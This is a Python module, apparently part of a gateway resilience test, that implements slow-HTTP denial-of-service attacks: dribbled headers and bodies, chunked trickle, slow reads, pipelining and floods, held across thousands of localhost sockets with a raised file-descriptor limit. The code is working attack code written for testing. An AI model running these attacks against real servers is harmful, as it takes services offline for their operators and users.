"""What an attacker does: each kind is one way of holding a connection for as little as possible.

In scope: the bytes of each kind, sent from one selector loop over thousands of sockets. Out of scope: what the
gateway does meanwhile (run).
"""

import resource
import selectors
import socket
import time

CONNECT_AT_ONCE = 500


class Kind:
    """One kind of attack: what is sent first, what is sent again and again, and how much is read."""

    def __init__(self, name, first, again=b"", pause_s=1.0, reads=True, whole=b""):
        self.name, self.first, self.again, self.pause_s, self.reads, self.whole = \
            name, first, again, pause_s, reads, whole


def head(method, path, *fields):
    """A request head without its end."""
    return "\r\n".join([f"{method} {path} HTTP/1.1", "Host: attacked", *fields]).encode() + b"\r\n"


KINDS = {kind.name: kind for kind in [
    Kind("connect", b""),
    Kind("head", head("GET", "/attacked/"), b"X: y\r\n", 5),
    Kind("long-head", head("GET", "/attacked/", "X: " + "x" * 60_000), b"X: y\r\n", 5),
    Kind("idle", head("GET", "/attacked/") + b"\r\n"),
    Kind("body", head("POST", "/attacked/", "Content-Length: 100000") + b"\r\n", b"x", 5),
    Kind("large-body", head("POST", "/attacked/", "Content-Length: 100000000") + b"\r\n" + b"x" * 20_000, b"x", 5),
    Kind("chunks", head("POST", "/attacked/", "Transfer-Encoding: chunked") + b"\r\n", b"1\r\nx\r\n", 2),
    Kind("read", head("GET", "/attacked/bytes/4000000") + b"\r\n", reads=False),
    Kind("pipeline", (head("GET", "/attacked/bytes/100000") + b"\r\n") * 100, reads=False),
    Kind("flood", head("GET", "/attacked/") + b"\r\n", head("GET", "/attacked/") + b"\r\n", 2),
]}


def attack(kind, port, connections, until, report):
    """Holds as many connections as it can until the time given. `report` gets how many are open, once a second."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    selector = selectors.DefaultSelector()
    opened, held, due, told_at = 0, {}, [], 0.0
    while time.monotonic() < until:
        now = time.monotonic()
        for _ in range(min(CONNECT_AT_ONCE, connections - opened)):
            attacker = connect(kind, port)
            opened += 1
            if attacker:
                held[attacker] = True
                due.append((now + kind.pause_s, attacker))
                selector.register(attacker, selectors.EVENT_READ)
        for key, _ in selector.select(0.02):
            if not hear(kind, key.fileobj):
                selector.unregister(key.fileobj)
                held.pop(key.fileobj, None)
                key.fileobj.close()
        due = send_again(kind, due, held)
        if now - told_at > 1 and opened == connections:
            told_at = now
            report(len(held))
    for attacker in held:
        attacker.close()


def connect(kind, port):
    """A connection that has sent its first bytes; None where the gateway does not take it."""
    attacker = socket.socket()
    if not kind.reads:
        attacker.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
    try:
        attacker.settimeout(5)
        attacker.connect(("127.0.0.1", port))
        attacker.setblocking(False)
        if kind.first:
            attacker.send(kind.first)
    except OSError:
        attacker.close()
        return None
    return attacker


def hear(kind, attacker):
    """False when the gateway has closed. One that does not read looks whether there is an end, and leaves the rest."""
    try:
        if kind.reads:
            return bool(attacker.recv(65_536))
        time.sleep(0.0002)
        return bool(attacker.recv(1))
    except BlockingIOError:
        return True
    except OSError:
        return False


def send_again(kind, due, held):
    """Sends to those whose time has come; who is due next, in order."""
    if not kind.again:
        return []
    now, sent = time.monotonic(), 0
    while sent < len(due) and due[sent][0] <= now:
        attacker = due[sent][1]
        sent += 1
        if attacker in held:
            try:
                attacker.send(kind.again)
            except OSError:
                continue
            due.append((now + kind.pause_s, attacker))
    return due[sent:]
